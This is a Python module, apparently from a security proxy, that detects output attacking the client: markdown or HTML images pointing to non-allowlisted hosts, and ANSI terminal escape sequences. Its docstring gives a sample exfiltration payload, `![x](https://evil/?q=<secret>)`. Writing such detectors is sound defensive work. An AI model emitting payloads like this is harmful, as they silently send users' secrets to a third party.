"""Output that attacks the client rather than leaking a value (SECURITY_TESTS I9).

- markdown_image: `![x](https://evil/?q=<secret>)` makes the client's renderer send
  data to a third party with no click; also raw `<img src=...>`. Hosts on the
  policy's allowlist pass.
- ansi: terminal escape sequences (CSI, OSC hyperlinks/title, 8-bit C1) that can
  rewrite what a terminal user sees. The default marker for these is "" (strip).
"""

from __future__ import annotations

from typing import Iterable
from urllib.parse import urlsplit

import regex

from proxy.leak.pattern import Alternative, Check, PatternDetector

_MD_IMAGE = (r"!\[[^\]\n]{0,512}\]\(\s{0,8}<?(?P<url>[^)\s>]{1,2048})>?"
             r"(?:\s{1,8}(?:\"[^\"\n]{0,256}\"|'[^'\n]{0,256}'))?\s{0,8}\)")
_HTML_IMAGE = r"(?i:<img\b[^>]{0,2048}>)"
_HTML_SRC = regex.compile(r"""(?i)\bsrc\s*=\s*["']?([^"'\s>]+)""")

_ANSI = (
    ("osc", r"\x1b\][^\x07\x1b\x9c]{0,4096}(?:\x07|\x1b\\|\x9c)", 4100, ("\x1b]",)),  # OSC: title, hyperlinks
    ("csi", r"(?:\x1b\[|\x9b)[0-?]{0,64}[ -/]{0,8}[@-~]", 80, ("\x1b[", "\x9b")),  # CSI: colours, cursor moves, erase
    ("esc", r"\x1b(?![\[\]])[ -/]{0,8}[0-~]?|[\x80-\x9f]", 10, ("\x1b",) + tuple(chr(c) for c in range(0x80, 0xA0))),  # C1 too
)


def _host(url: str) -> str:
    try:
        return (urlsplit(url if "//" in url else "//" + url).hostname or "").lower()
    except ValueError:
        return ""


def image_alternatives(allow_hosts: Iterable[str] = ()) -> tuple[list[Alternative], dict[str, Check]]:
    allowed = frozenset(h.lower() for h in allow_hosts)

    def external(url: str) -> bool:
        if not url:
            return True  # an <img> without a readable src: fail closed
        low = url.lower()
        if low.startswith("data:") or (not low.startswith(("http:", "https:", "//")) and ":" not in low.split("/")[0]):
            return False  # inline data or a relative path: nothing leaves the client
        host = _host(url)
        return not host or (host not in allowed and not any(host.endswith("." + a) for a in allowed))

    def markdown(m) -> bool:
        return external(m.group("url"))

    def html(m) -> bool:
        src = _HTML_SRC.search(m.group())
        return external(src.group(1) if src else "")

    alts = [Alternative("markdown_image__markdown_image", "markdown_image", "markdown_image", _MD_IMAGE, 512 + 2048 + 300, ("![",), False),
            Alternative("markdown_image__html_image", "markdown_image", "html_image", _HTML_IMAGE, 2100, ("<img",), False)]
    return alts, {alts[0].group: markdown, alts[1].group: html}


def ansi_alternatives() -> list[Alternative]:
    return [Alternative(f"ansi__{kind}", "ansi", kind, src, max_len, anchors, False) for kind, src, max_len, anchors in _ANSI]


def image_detector(allow_hosts: Iterable[str] = ()) -> PatternDetector:
    alts, checks = image_alternatives(allow_hosts)
    return PatternDetector(alts, checks)


def ansi_detector() -> PatternDetector:
    return PatternDetector(ansi_alternatives())
